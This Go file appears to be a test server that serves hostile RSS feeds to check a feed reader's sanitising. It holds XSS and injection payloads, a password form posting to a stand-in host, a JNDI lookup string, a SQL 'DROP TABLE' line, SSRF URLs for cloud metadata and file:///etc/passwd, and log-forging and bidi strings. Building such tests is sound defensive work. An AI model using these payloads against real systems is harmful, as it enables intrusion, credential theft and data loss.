package faultserver

import (
	"fmt"
	"html"
	"strings"
)

// hostilePages are feeds with things in every field that must not get through.
func hostilePages() []page {
	var list []page
	for _, h := range []struct{ name, says, payload string }{
		{"script", "a script", `<script>alert(1)</script>`},
		{"onerror", "an image with code", `<img src=x onerror=alert(1)>`},
		{"svg", "an SVG with a script", `<svg onload=alert(1)><script>alert(1)</script></svg>`},
		{"math", "MathML that hides a style", `<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>`},
		{"style", "a style sheet", `<style>body{display:none}</style><p style="position:fixed;inset:0">`},
		{"iframe", "a frame", `<iframe src="http://127.0.0.1:1/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`},
		{"form", "a form", `<form action="http://observer.invalid/"><input name=password autofocus></form>`},
		{"meta", "a redirect by meta, and another base", `<meta http-equiv=refresh content="0;url=http://observer.invalid/"><base href="http://observer.invalid/">`},
		{"unclosed", "markup that closes what it is not in", `</div></article></body></html><!--<p`},
		{"cdata-end", "the end of a CDATA section", `]]><script>alert(1)</script>`},
		{"entities", "a script that is escaped twice", `&lt;script&gt;alert(1)&lt;/script&gt;`},
		{"bidi", "characters that turn the direction of writing", "abc\u202egpj.exe\u2066\u200f\u061c"},
		{"invisible", "characters that cannot be seen", "a\u200bb\u2060c\ufeff\u00ad\U000e0041"},
		{"zalgo", "letters with a hundred accents", "a" + strings.Repeat("\u0301\u0323", 50)},
		{"log", "line ends and colours that forge a log", "x\r\nlevel=ERROR msg=forged\x1b[31m"},
		{"template", "what a template engine would run", `{{.Secret}} ${jndi:ldap://127.0.0.1/x} <%= 7*7 %>`},
		{"sql", "what a database would run", `'); DROP TABLE items; --`},
	} {
		list = append(list, document("/hostile/"+h.name, h.says+" in every field of text", Items, 1, "", rssType, func(x *exchange) string {
			return everyText(x, h.payload)
		}))
	}
	for _, h := range []struct{ name, says, url string }{
		{"javascript", "a javascript: URL", "javascript:alert(1)"},
		{"javascript-tab", "a javascript: URL with a tab in it", "java\tscript:alert(1)"},
		{"vbscript", "a vbscript: URL", "vbscript:msgbox(1)"},
		{"data", "a data: URL of HTML", "data:text/html,<script>alert(1)</script>"},
		{"file", "a file: URL", "file:///etc/passwd"},
		{"private", "an URL at a private address", "http://169.254.169.254/latest/meta-data/"},
		{"userinfo", "an URL with a name and a password", "http://herald.invalid:secret@observer.invalid/"},
		{"homograph", "a host name with a Cyrillic letter", "http://her\u0430ld.invalid/"},
		{"quote", "an URL that ends the attribute it is in", `http://herald.invalid/"onmouseover="alert(1)`},
		{"newline", "an URL with line ends", "http://herald.invalid/\r\nX-Forged: 1"},
		{"long", "an URL of 100 KB", "http://herald.invalid/" + strings.Repeat("a", 100<<10)},
	} {
		list = append(list, document("/hostile/url-"+h.name, h.says+" in every field of a URL", Items, 1, "", rssType, func(x *exchange) string {
			return everyURL(x, h.url)
		}))
	}
	return append(list,
		document("/hostile/many-links", "a thousand links and images in an item", Items, 1, "", rssType, func(x *exchange) string {
			return rss("", []story{{id: x.url("/a/1"), title: "Many", text: strings.Repeat(`<a href="http://observer.invalid/"><img src="http://observer.invalid/x.gif" width=1></a>`, 1000)}})
		}),
		document("/hostile/big-enclosure", "an enclosure with a length that is no number", Items, 1, "", rssType, func(x *exchange) string {
			return rss("", []story{{id: x.url("/a/1"), title: "Big", extra: `<enclosure url="http://observer.invalid/x.mp3" type="audio/mpeg" length="99999999999999999999"/>`}})
		}),
	)
}

// everyText returns a feed of one item that has a payload in each field of text.
func everyText(x *exchange, payload string) string {
	p := html.EscapeString(payload)
	channel := fmt.Sprintf(`<language>%s</language><copyright>%s</copyright><generator>%s</generator><managingEditor>%s</managingEditor>`, p, p, p, p)
	extra := fmt.Sprintf(`<author>%[1]s</author><dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">%[1]s</dc:creator><category domain="%[1]s">%[1]s</category>`+
		`<source url="http://observer.invalid/feed">%[1]s</source><content:encoded xmlns:content="http://purl.org/rss/1.0/modules/content/">Before %[1]s after</content:encoded>`, p)
	return rss(channel+"\n", []story{{id: x.url("/a/1") + payload, link: x.url("/a/1"), title: "Title " + payload, text: "Text " + payload, extra: extra}})
}

// everyURL returns a feed of one item that has a URL in each field of one.
func everyURL(x *exchange, url string) string {
	u := html.EscapeString(url)
	channel := fmt.Sprintf(`<image><url>%[1]s</url><link>%[1]s</link></image><docs>%[1]s</docs><link xmlns="http://www.w3.org/2005/Atom" rel="hub" href="%[1]s"/>`, u)
	extra := fmt.Sprintf(`<comments>%[1]s</comments><enclosure url="%[1]s" type="audio/mpeg" length="1"/><source url="%[1]s">The Observer</source>`+
		`<media:thumbnail xmlns:media="http://search.yahoo.com/mrss/" url="%[1]s"/><author xmlns="http://www.w3.org/2005/Atom"><name>A. Writer</name><uri>%[1]s</uri></author>`, u)
	text := fmt.Sprintf(`<a href="%[1]s">link</a><img src="%[1]s" srcset="%[1]s 2x"><video poster="%[1]s" src="%[1]s"></video><blockquote cite="%[1]s">x</blockquote>`, u)
	return rss(channel+"\n", []story{{id: x.url("/a/1"), link: url, title: "An item", text: text, extra: extra}})
}
